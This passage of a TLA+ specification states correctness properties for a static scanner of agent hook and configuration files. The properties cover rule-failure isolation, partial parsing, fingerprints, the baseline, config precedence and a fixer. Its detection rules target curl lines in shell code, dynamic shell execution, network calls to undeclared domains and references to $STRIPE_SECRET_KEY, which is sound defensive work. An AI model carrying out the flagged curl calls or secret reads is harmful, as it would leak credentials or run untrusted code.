At(d, r) == enginePc' = "rules" /\ docIndex' = d /\ ruleIndex' = r

\* findings pushed by the pass of the loop that is being made
Pushed == SubSeq(findings', Len(findings) + 1, Len(findings'))

\* C18: a rule that throws contributes no finding for the document and
\* stops nothing: whether the rule returns or throws, the findings gathered
\* before are kept, the next enabled or disabled rule is tried for the
\* same document, after the last rule the next document starts again with
\* the first rule, and after the last document the findings are returned.
C18_RuleFailuresIsolated ==
    [][ /\ enginePc = "rules" =>
            /\ lastEvaluation' = "threw" => findings' = findings
            /\ Len(findings') >= Len(findings)
            /\ SubSeq(findings', 1, Len(findings)) = findings
            /\ \A i \in 1..Len(Pushed) :
                   /\ Pushed[i].rule_id = Rules[ruleIndex]
                   /\ Pushed[i].path = documents[docIndex]
            /\ IF ruleIndex < Len(Rules) THEN At(docIndex, ruleIndex + 1)
               ELSE IF docIndex < Len(documents) THEN At(docIndex + 1, 1)
               ELSE enginePc' = "sort"
        /\ enginePc = "sort" =>
            /\ enginePc' = "done"
            /\ Len(findings') = Len(findings)
            /\ ElementsOf(findings') = ElementsOf(findings)
      ]_vars

\* the last rule threw for the first document after another rule had
\* reported for it, and the second document is about to be evaluated from
\* the first rule on
C18_Witness ==
    /\ enginePc = "rules"
    /\ lastEvaluation = "threw"
    /\ docIndex = 2
    /\ ruleIndex = 1
    /\ findings # <<>>

-----------------------------------------------------------------------------
(* Claims about the scan pipeline *)

\* what a finding shows of itself apart from generated ids
Reported(f) ==
    [ rule_id |-> f.rule_id, path |-> f.path, start_line |-> f.start_line,
      end_line |-> f.end_line, severity |-> f.severity,
      fingerprints |-> f.fingerprints ]

Runs == {r \in {pipeRuns.first, pipeRuns.second} : r.ran}

\* the documents of a scan for a path
DocumentsAt(run, path) ==
    {d \in 1..Len(run.documents) : run.documents[d].path = path}

\* the actions extracted before the extraction of a file threw
AccumulatedActions(file) ==
    ExtractActions(file.content, file.throws_at - 1, DetermineFormat(file.path),
                   IF DetermineDocType(file.path) = "hook" THEN "hook"
                   ELSE "interactive")

\* C19: when the extraction of a file throws, the scan still returns a
\* document for the file, with parse status partial or failed and the
\* actions accumulated before the throw; the findings for those actions are
\* reported, the error is among the errors of the scan, and the other
\* files are parsed.
C19_PartialDocumentKept ==
    \A run \in Runs : \A i \in 1..Len(pipeFiles) :
        LET file == pipeFiles[i]
            accumulated == AccumulatedActions(file)
        IN  file.throws_at > 0 =>
            /\ \E d \in DocumentsAt(run, file.path) :
                   /\ run.documents[d].parse_status \in {"partial", "failed"}
                   /\ Len(run.documents[d].actions) = Len(accumulated)
                   /\ \A k \in 1..Len(accumulated) :
                          run.documents[d].actions[k].start_line
                              = accumulated[k].start_line
            /\ \A k \in 1..Len(accumulated) :
                   accumulated[k].dynamic =>
                       \E f \in 1..Len(run.findings) :
                           /\ run.findings[f].rule_id = "EXEC-001"
                           /\ run.findings[f].path = file.path
                           /\ run.findings[f].start_line = accumulated[k].start_line
            /\ \E e \in 1..Len(run.errors) : run.errors[e].failed_to_parse = file.path
            /\ \A j \in 1..Len(pipeFiles) :
                   pipeFiles[j].throws_at = 0
                       => DocumentsAt(run, pipeFiles[j].path) # {}

\* the extraction of the first file throws at its second line, after a
\* dynamic shell action was extracted from the first; the error is
\* recorded and the second file is parsed
C19_Witness ==
    /\ pipeRuns.first.ran
    /\ Len(pipeFiles) = 2
    /\ pipeFiles[1].throws_at = 2
    /\ pipeFiles[2].throws_at = 0
    /\ Len(AccumulatedActions(pipeFiles[1])) > 0
    /\ AccumulatedActions(pipeFiles[1])[1].dynamic
    /\ \E e \in 1..Len(pipeRuns.first.errors) :
           pipeRuns.first.errors[e].failed_to_parse = pipeFiles[1].path
    /\ DocumentsAt(pipeRuns.first, pipeFiles[2].path) # {}

\* the file references $STRIPE_SECRET_KEY
ReferencesStripeKey(file) ==
    \E n \in 1..Len(file.content) : file.content[n] = SecretLine

\* the SEC-001 findings of high severity for the variable in a document
StripeKeyFindings(run, path) ==
    {f \in 1..Len(run.findings) :
        /\ run.findings[f].rule_id = "SEC-001"
        /\ run.findings[f].severity = "high"
        /\ run.findings[f].message.var = "STRIPE_SECRET_KEY"
        /\ run.findings[f].path = path}

\* C20: every scanned document that references $STRIPE_SECRET_KEY has
\* exactly one SEC-001 finding of severity high for that variable, located
\* in that document, whatever its format and whatever other documents are
\* scanned with it.
C20_StripeKeyReported ==
    \A run \in Runs : \A i \in 1..Len(pipeFiles) :
        (ReferencesStripeKey(pipeFiles[i]) /\ DocumentsAt(run, pipeFiles[i].path) # {})
        => Cardinality(StripeKeyFindings(run, pipeFiles[i].path)) = 1

\* a hook that references the variable on one line, scanned next to a
\* memory file, has one such finding at that line
C20_Witness ==
    /\ pipeRuns.first.ran
    /\ Len(pipeRuns.first.documents) = 2
    /\ \E i \in 1..2 :
           /\ pipeFiles[i].content = <<EvalLine, SecretLine>>
           /\ DetermineFormat(pipeFiles[i].path) = "shell"
           /\ Cardinality(StripeKeyFindings(pipeRuns.first, pipeFiles[i].path)) = 1
           /\ \A f \in StripeKeyFindings(pipeRuns.first, pipeFiles[i].path) :
                  pipeRuns.first.findings[f].start_line = 2

-----------------------------------------------------------------------------
(* Claims about the entries of the baseline *)

\* C27: after any sequence of create, update and prune calls the baseline
\* holds at most one entry per fingerprint.
C27_OneEntryPerFingerprint ==
    IsLoaded(baseline) =>
        \A i, j \in 1..Len(baseline.findings) :
            baseline.findings[i].fingerprint = baseline.findings[j].fingerprint
                => i = j

\* an update has added a second fingerprint to a baseline
C27_Witness ==
    /\ IsLoaded(baseline)
    /\ lastCall.op = "update"
    /\ Len(baseline.findings) = 2
    /\ baseline.findings[1].fingerprint # baseline.findings[2].fingerprint
    /\ baseline.findings[1].baselined_at # baseline.findings[2].baselined_at

-----------------------------------------------------------------------------
(* Claims about the rules of a scan *)

\* the findings of a rule at a line of a document
FindingsAt(run, ruleId, path, line) ==
    {f \in 1..Len(run.findings) :
        /\ run.findings[f].rule_id = ruleId
        /\ run.findings[f].path = path
        /\ run.findings[f].start_line = line}

\* the findings of a rule in a document
FindingsIn(run, ruleId, path) ==
    {f \in 1..Len(run.findings) :
        run.findings[f].rule_id = ruleId /\ run.findings[f].path = path}

\* the actions of a document that carry shell details
ShellActionsOf(doc) ==
    {k \in 1..Len(doc.actions) :
        doc.actions[k].type = "shell_exec" /\ doc.actions[k].command # Undefined}

TriggerTypes(doc) ==
    {doc.context_profile.triggers[t] : t \in 1..Len(doc.context_profile.triggers)}

CurlLinesOf(file) ==
    {n \in 1..Len(file.content) :
        /\ file.content[n] = CurlLine
        /\ \/ DetermineFormat(file.path) = "shell"
           \/ /\ DetermineFormat(file.path) = "markdown"
              /\ InCodeBlock(file.content, n)
              /\ CodeBlockClosed(file.content, n)
              /\ IsShellLanguage(
                     CodeBlockLang(file.content[CodeBlockStart(file.content, n)]))}

\* the actions of a type at a line of a document
ActionsAt(doc, type, line) ==
    {k \in 1..Len(doc.actions) :
        doc.actions[k].type = type /\ doc.actions[k].start_line = line}

C26_DistinctStableFingerprints ==
    \A run \in Runs : \A f, g \in 1..Len(run.findings) :
        run.findings[f].fingerprints.stable = run.findings[g].fingerprints.stable
            => f = g

\* a scan that returns several findings, all of different stable
\* fingerprints
C26_Witness ==
    /\ pipeRuns.first.ran
    /\ Len(pipeRuns.first.findings) >= 3
    /\ \A f, g \in 1..Len(pipeRuns.first.findings) :
           pipeRuns.first.findings[f].fingerprints.stable
               = pipeRuns.first.findings[g].fingerprints.stable => f = g

\* C28: a document with no actions and no instruction blocks yields no
\* findings, whatever the other documents of the scan contain.
C28_EmptyDocumentNoFindings ==
    \A run \in Runs : \A d \in 1..Len(run.documents) :
        LET doc == run.documents[d]
        IN  (doc.actions = <<>> /\ doc.instruction_blocks = <<>>) =>
                \A f \in 1..Len(run.findings) : run.findings[f].path # doc.path

\* an empty document without findings next to a document with findings
C28_Witness ==
    /\ pipeRuns.first.ran
    /\ Len(pipeRuns.first.documents) = 2
    /\ Len(pipeRuns.first.findings) > 0
    /\ \E d \in 1..2 :
           /\ pipeRuns.first.documents[d].actions = <<>>
           /\ pipeRuns.first.documents[d].instruction_blocks = <<>>
           /\ \A f \in 1..Len(pipeRuns.first.findings) :
                  pipeRuns.first.findings[f].path # pipeRuns.first.documents[d].path

\* C30: NET-001 produces no finding in any scan: every network_call action
\* is outbound and its domains are among the allowed domains of the
\* summary.
C30_NoUndeclaredNetworkFinding ==
    \A run \in Runs :
        /\ \A f \in 1..Len(run.findings) : run.findings[f].rule_id # "NET-001"
        /\ \A d \in 1..Len(run.documents) :
               \A k \in 1..Len(run.documents[d].actions) :
                   LET action == run.documents[d].actions[k]
                   IN  action.type = "network_call" =>
                           /\ action.direction = "outbound"
                           /\ run.capabilitySummary.network.outbound
                           /\ \A m \in 1..Len(action.domains) :
                                  Includes(run.capabilitySummary.network.allowed_domains,
                                           action.domains[m])

\* a scan with a network_call action to x.com, reported by NET-002 and not
\* by NET-001
C30_Witness ==
    /\ pipeRuns.first.ran
    /\ \E d \in 1..Len(pipeRuns.first.documents) :
           \E k \in 1..Len(pipeRuns.first.documents[d].actions) :
               /\ pipeRuns.first.documents[d].actions[k].type = "network_call"
               /\ pipeRuns.first.documents[d].actions[k].domains
                      = <<<<"x", ".", "c", "o", "m">>>>
    /\ \E f \in 1..Len(pipeRuns.first.findings) :
           pipeRuns.first.findings[f].rule_id = "NET-002"
    /\ \A f \in 1..Len(pipeRuns.first.findings) :
           pipeRuns.first.findings[f].rule_id # "NET-001"

\* the capability summary of a scan as the diff reads it: the elements of
\* its lists
ListElements(summary) ==
    [ filesystem |->
        [ write |-> ElementSet(summary.filesystem.write),
          touches_sensitive_paths |->
              ElementSet(summary.filesystem.touches_sensitive_paths) ],
      shell_exec |->
        [ enabled |-> summary.shell_exec.enabled,
          dynamic_detected |-> summary.shell_exec.dynamic_detected ],
      network |->
        [ outbound |-> summary.network.outbound,
          inbound |-> summary.network.inbound,
          fetches_executable |-> summary.network.fetches_executable ],
      secrets |->
        [ env_vars_referenced |-> ElementSet(summary.secrets.env_vars_referenced),
          propagation_detected |-> summary.secrets.propagation_detected ],
      contexts |->
        [ has_hooks |-> summary.contexts.has_hooks,
          has_ci_context |-> summary.contexts.has_ci_context ] ]

\* the changes of a diff of the scan against a base without capabilities
ChangesFromEmptyBase(run) ==
    DetectCapabilityChanges(SummaryOf({}), ListElements(run.capabilitySummary))

\* some document of the scan has an action that carries shell details
HasShellDetails(run) ==
    \E d \in 1..Len(run.documents) : ShellActionsOf(run.documents[d]) # {}

\* C29: shell_exec.enabled of the summary is true only if some document has
\* an action carrying shell details; a scan whose only detections are
\* references to secret environment variables leaves it false, and its
\* diff against an empty base has no change of shell_exec.enabled.
C29_ShellEnabledNeedsShellDetails ==
    \A run \in Runs :
        /\ run.capabilitySummary.shell_exec.enabled => HasShellDetails(run)
        /\ ~HasShellDetails(run) =>
               \A c \in 1..Len(ChangesFromEmptyBase(run)) :
                   ChangesFromEmptyBase(run)[c].field # "shell_exec.enabled"

\* a scan of a hook with the command npm test: an action with shell
\* details, shell_exec.enabled set, and the diff against an empty base
\* reports it
C29_Witness ==
    /\ pipeRuns.first.ran
    /\ Len(pipeFiles) = 1
    /\ pipeFiles[1].content = <<CommandLine>>
    /\ HasShellDetails(pipeRuns.first)
    /\ pipeRuns.first.capabilitySummary.shell_exec.enabled
    /\ \E c \in 1..Len(ChangesFromEmptyBase(pipeRuns.first)) :
           ChangesFromEmptyBase(pipeRuns.first)[c].field = "shell_exec.enabled"

-----------------------------------------------------------------------------
(* Claims about the files of a scan, the policy of the scan command and    *)
(* the fixer                                                                *)

\* C25: Scanner.scan never parses more than policy.scan.max_files files,
\* and the documents of a scan are at most max_files.
C25_MaxFilesBreaker ==
    /\ findParsed <= findInput.max_files
    /\ Len(findDocuments) <= findInput.max_files

\* a scan that found files, parsed them all and stayed within max_files
C25_Witness ==
    /\ findPc = "done"
    /\ findParsed = Len(findFiles)
    /\ findParsed > 0
    /\ Len(findDocuments) > 0
    /\ findParsed <= findInput.max_files

\* the value a setting is to have: the flag, else the value of the file,
\* else the default
Precedence(flag, file, key, default) ==
    IF flag # NotGiven THEN flag
    ELSE IF file.exists /\ file[key] # NotGiven THEN file[key]
    ELSE default

\* C23: the scan uses the flag --fail-on (--warn-on) when it is given,
\* else the fail_on (warn_on) of the configuration file, and the default
\* only when neither sets it.
C23_ConfigPrecedence ==
    cfgResult.status = "scanning" =>
        /\ cfgResult.policy.fail_on =
               Precedence(cfgInput.failOn, cfgInput.file, "fail_on",
                          DefaultScanPolicy.fail_on)
        /\ cfgResult.policy.warn_on =
               Precedence(cfgInput.warnOn, cfgInput.file, "warn_on",
                          DefaultScanPolicy.warn_on)

\* a scan with --fail-on low and a file that sets fail_on to medium: the
\* flag is used
C23_Witness ==
    /\ cfgResult.status = "scanning"
    /\ cfgInput.failOn = "low"
    /\ cfgInput.file.exists
    /\ cfgInput.file.fail_on = "medium"
    /\ cfgResult.policy.fail_on = "low"

\* the OBS-002 findings of a run for a file
ManifestFindings(run, path) ==
    {f \in 1..Len(run.findings) :
        run.findings[f].rule_id = "OBS-002" /\ run.findings[f].path = path}

\* the files a run has written
Modified(run) ==
    IF run.dry_run THEN {}
    ELSE {run.modifiedFiles[i] : i \in 1..Len(run.modifiedFiles)}

\* C24: after scan --fix added the permission manifest to a file, the scan
\* of the file has no OBS-002 finding for it, and the next scan --fix
\* applies no fix to it.
C24_FixResolvesFinding ==
    \A k \in 1..Len(fixRuns) :
        \A path \in Modified(fixRuns[k]) :
            /\ ManifestFindings(fixRuns[k], path) = {}
            /\ k < Len(fixRuns) => path \notin Modified(fixRuns[k + 1])

\* scan --fix has added the manifest to a file: the file begins with it
C24_Witness ==
    /\ Len(fixRuns) = 1
    /\ ~fixRuns[1].dry_run
    /\ fixRuns[1].applied = 1
    /\ \E i \in 1..Len(fixFiles) :
           /\ fixFiles[i].path \in Modified(fixRuns[1])
           /\ Len(fixFiles[i].content) > 0
           /\ fixFiles[i].content[1] = ManifestOpen

=============================================================================
